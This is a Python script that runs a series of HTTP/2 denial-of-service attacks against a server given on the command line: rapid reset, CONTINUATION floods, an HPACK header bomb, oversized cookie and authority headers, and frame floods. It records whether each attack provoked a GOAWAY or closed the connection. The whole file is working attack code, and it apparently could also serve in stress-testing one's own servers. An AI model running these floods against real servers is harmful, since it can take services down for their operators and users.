"""flood.py HOST PORT [TLS-NAME]: attacks an HTTP/2 server, one attack per connection, each for a few seconds at most.

Prints a JSON object: attack → [how many messages went out, GOAWAY's code or null, "closed" | "open"].
"""

import json
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

from hpack import Encoder

SECONDS = 4.0
MESSAGES = 100_000
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(method: str = "POST", *extra: tuple[str, str]) -> bytes:
    fields = [(":method", method), (":scheme", "http"), (":path", "/x"), (":authority", "web"), *extra]
    return bytes(Encoder().encode(fields))


def streams() -> Iterator[int]:
    return iter(range(1, 1 << 30, 2))


def rapid_reset() -> Iterator[bytes]:
    for number in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, block("GET")) + frame(
            RST, 0, number, struct.pack(">I", 8)
        )


def provoked_reset() -> Iterator[bytes]:
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, block()) + frame(WINDOW, 0, number, struct.pack(">I", 0))


def window_overflow() -> Iterator[bytes]:
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, block()) + frame(WINDOW, 0, number, struct.pack(">I", 0x7FFFFFFF)) * 2


def wrong_length() -> Iterator[bytes]:
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, block("POST", ("content-length", "1"))) + frame(
            DATA, END_STREAM, number, b"toolong"
        )


def continuation(piece: bytes) -> Callable[[], Iterator[bytes]]:
    def frames() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, block())
        while True:
            yield frame(CONTINUATION, 0, 1, piece)

    return frames


def hpack_bomb() -> Iterator[bytes]:
    """One entry of 4,000 bytes, named again and again by one byte; then again on every stream."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    yield frame(HEADERS, END_HEADERS, 1, block() + entry)
    for number in range(3, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS, number, block() + b"\xbe" * 12_000)


def cookies() -> Iterator[bytes]:
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, block() + b"\x00\x06cookie\x01a" * 1700)


def long_authority() -> Iterator[bytes]:
    for number in streams():
        yield (
            frame(HEADERS, 0, number, b"\x82\x86\x84\x41\x7f\x81\xfe\x03" + b"a" * 16_000)
            + frame(CONTINUATION, 0, number, b"a" * 16_384) * 3
            + frame(CONTINUATION, END_HEADERS, number, b"a" * 384)
        )


def empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, block())
    while True:
        yield frame(DATA, 0, 1) * 10


def repeated(message: bytes) -> Callable[[], Iterator[bytes]]:
    def frames() -> Iterator[bytes]:
        while True:
            yield message * 10

    return frames


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid reset": rapid_reset,
    "provoked reset": provoked_reset,
    "window overflow": window_overflow,
    "wrong length": wrong_length,
    "empty continuations": continuation(b""),
    "full continuations": continuation(b"\x00\x01x\x01y" * 3000),
    "header bomb": hpack_bomb,
    "cookies": cookies,
    "long authority": long_authority,
    "empty data": empty_data,
    "pings": repeated(frame(PING, 0, 0, b"12345678")),
    "settings": repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
    "priorities": repeated(frame(PRIORITY, 0, 1, b"\0\0\0\3\x10")),
    "updates": repeated(frame(WINDOW, 0, 0, struct.pack(">I", 1))),
    "unknown frames": repeated(frame(0xFA, 0, 1, b"x" * 100)),
}


def connect() -> socket.socket:
    stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
    if sys.argv[3:]:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        stream = context.wrap_socket(stream, server_hostname=sys.argv[3])
    stream.settimeout(2)
    return stream


class Reader(threading.Thread):
    """Reads slowly, so that answers pile up where the server keeps them; notes a GOAWAY."""

    def __init__(self, stream: socket.socket) -> None:
        super().__init__(daemon=True)
        self.stream, self.ended = stream, False
        self.code: int | None = None

    def run(self) -> None:
        got = b""
        try:
            while True:
                try:
                    data = self.stream.recv(65_536)
                except TimeoutError:
                    continue
                if not data:
                    break
                got += data
                while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3]):
                    if got[3] == 7:
                        self.code = int.from_bytes(got[13:17])
                    got = got[9 + int.from_bytes(got[:3]) :]
        except OSError:
            pass
        self.ended = True


def attack(make: Callable[[], Iterator[bytes]]) -> tuple[int, int | None, str]:
    with connect() as stream:
        reader = Reader(stream)
        sent, deadline = 0, time.monotonic() + SECONDS
        try:
            stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            reader.start()
            for message in make():
                stream.sendall(message)
                sent += 1
                if sent >= MESSAGES or time.monotonic() > deadline or reader.ended:
                    break
        except OSError:
            pass
        reader.join(0.5)
        return sent, reader.code, "closed" if reader.ended else "open"


print(json.dumps({name: attack(make) for name, make in ATTACKS.items()}))
